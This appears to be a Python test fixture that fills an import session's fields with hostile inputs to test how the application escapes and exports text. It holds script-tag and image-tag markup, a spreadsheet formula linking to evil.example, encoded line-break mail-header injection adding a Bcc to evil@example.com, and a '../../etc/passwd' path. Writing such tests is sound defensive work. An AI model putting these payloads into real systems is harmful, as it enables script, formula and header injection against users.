"""A session whose every text field is hostile: markup, formulas, header injection, RTL, emoji, huge text."""

from __future__ import annotations

import copy
import json

import resources
from cardwall.interchange import ImportSession

ORG = "AT&T <b>Research</b> & Sons"
NAME = "<img src=x> Zoë Nguyễn-Müller"
EMOJI = "Welder 🔥 “lead” — ≥ 3 years"
RTL = "מהנדס ייצור"
SCRIPT = "R&D <script>alert(1)</script>"
MULTILINE = "First line\nSecond line"
FORMULA_CATEGORY = '=HYPERLINK("http://evil.example","click")'
FORMULA_CARD = "+1 call me"
AT_CARD = "@SUM(A1:A9)"
INJECT_NAME = "Eve =?UTF-8?Q?=0A?=Bcc: evil@example.com"
INJECT_TITLE = "Wall =?UTF-8?Q?=0D=0A?=Bcc: evil@example.com"
LONG_WORD = "Pneumonoultramicroscopic" * 20  # 480 characters, no space to break at
LONG_NOTE = ("The welding program graduates too few students & employers want more. " * 150)[:10_000]
PANEL = "../../etc/passwd <Tool & Die>"


def hostile_data(kind: str = "critical-occupations") -> dict:
    data = json.loads(resources.path("demo", f"{kind}.json").read_text(encoding="utf-8"))
    data = copy.deepcopy(data)
    data["session"]["title"] = INJECT_TITLE
    data["session"]["facilitator"] = NAME
    people = data["participants"]
    people[0].update(name=NAME, organization=ORG)
    people[1].update(name=INJECT_NAME, organization=RTL)
    # (an address with a line break no longer gets in: the import refuses it like the app does;
    # test_exports_hostile drafts a mail for such a participant from an older file directly)
    if kind == "critical-occupations":
        data["categories"][0]["title"] = FORMULA_CATEGORY
        cards = data["cards"]
        piles = [c for c in cards if c["kind"] == "occupation" and not c["stack"]]  # what the summary shows
        for card, text in zip(piles, (SCRIPT, EMOJI, MULTILINE, LONG_WORD, FORMULA_CARD, AT_CARD), strict=False):
            card["text"] = text
        data["notes"][0]["text"] = LONG_NOTE
        data["notes"][1]["topic"] = ORG
    else:
        panel = data["panels"][0]
        panel["occupation"] = PANEL
        panel["functions"][0]["title"] = ORG
        panel["functions"][0]["tasks"][0]["text"] = SCRIPT
        panel["task_details"][0]["minimum"] = LONG_NOTE[:4000]
        panel["task_details"][0]["ksas"][0]["text"] = EMOJI
        panel["paths"]["into"][0] = RTL
    data["next_steps"][0]["text"] = MULTILINE + " " + SCRIPT
    data["next_steps"][0]["owner"] = NAME
    return data


def add_hostile_session(wf, kind: str = "critical-occupations") -> str:
    command = ImportSession(hostile_data(kind))
    wf.execute(command)
    return command.session_id


def squash(text: str) -> str:
    """Text without any whitespace: PDF text extraction breaks lines wherever the layout did."""
    return "".join(text.split())
